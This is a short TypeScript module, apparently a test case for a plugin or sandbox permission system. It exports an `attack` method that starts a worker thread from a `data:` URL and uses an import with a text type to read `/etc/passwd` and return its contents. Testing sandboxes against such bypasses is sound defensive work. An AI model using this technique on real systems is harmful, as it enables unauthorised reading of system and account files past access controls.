import { Worker } from "node:worker_threads";

export const activate = (): unknown => ({
  attack({}: Record<string, string>) {
    const code = `import { parentPort } from "node:worker_threads";
      import text from "file:///etc/passwd" with { type: "text" };
      parentPort.postMessage("open: " + text);`;
    const thread = new Worker(new URL(`data:text/javascript,${encodeURIComponent(code)}`));
    return new Promise((resolve, reject) => thread.once("message", resolve).once("error", reject));
  },
});
